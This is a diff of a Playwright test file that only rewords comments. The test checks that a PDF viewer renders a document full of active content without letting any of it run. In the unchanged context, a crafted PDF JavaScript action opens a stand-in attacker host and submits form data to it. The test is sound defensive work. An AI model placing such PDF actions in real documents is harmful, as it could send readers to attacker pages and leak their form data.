@@ -7,13 +7,13 @@ import { logIn } from '../../portal/session.ts'
 
 const ELSEWHERE = 'https://jahat.example'
 const script = `<</S/JavaScript/JS(app.alert\\('jalan'\\); app.launchURL\\('${ELSEWHERE}/js', true\\); this.submitForm\\('${ELSEWHERE}/kirim'\\);)>>`
-/** A tenth of the page each, from the top. */
+/** One tenth of the page for each, from the top. */
 const area = (at: number) => `/Rect[0 ${841 - 84 * (at + 1)} 595 ${841 - 84 * at}]`
 const link = (at: number, action: string) => `<</Type/Annot/Subtype/Link/Border[0 0 2]${area(at)}/A ${action}>>`
 const field = FIRST_EXTRA
 const attached = FIRST_EXTRA + 1
 
-/** Runs a script when it is opened, when a page is shown and from a field, and has a link of every kind that leads elsewhere. */
+/** A PDF with scripts on opening, on a page and in a field, and with every kind of link to the outside. */
 const activePdf = makePdf({
   sheets: [
     {
@@ -40,7 +40,7 @@ const activePdf = makePdf({
   ],
 })
 
-/** What the page does that a document might have made it do. */
+/** Records what the page does that a document's active content could cause. */
 function watch(page: Page): string[] {
   const done: string[] = []
   page.on('dialog', (dialog) => {
@@ -58,7 +58,7 @@ function watch(page: Page): string[] {
   return done
 }
 
-test('a PDF with scripts, links, a form and a file inside is drawn; nothing of it runs, opens, is fetched or sent', async ({
+test('a PDF with scripts, links, a form and an attachment is drawn; none of it runs, opens, is fetched or sent', async ({
   page,
 }) => {
   await logIn(page, demo.sari)
@@ -76,7 +76,7 @@ test('a PDF with scripts, links, a form and a file inside is drawn; nothing of i
   await expect(sheet.locator('canvas')).toBeVisible({ timeout: 30_000 })
   await expect(sheet.locator('.pvtext')).toContainText('Halaman dengan isi aktif')
 
-  // Nothing of it can be clicked, focused or filled in, and a click anywhere does nothing.
+  // Nothing in the page is clickable, focusable or editable, and a click has no effect.
   await expect(sheet.locator('a, button, input, textarea, select, iframe, embed, object, [tabindex]')).toHaveCount(0)
   const box = await sheet.boundingBox()
   if (!box) throw new Error('the page is not shown')
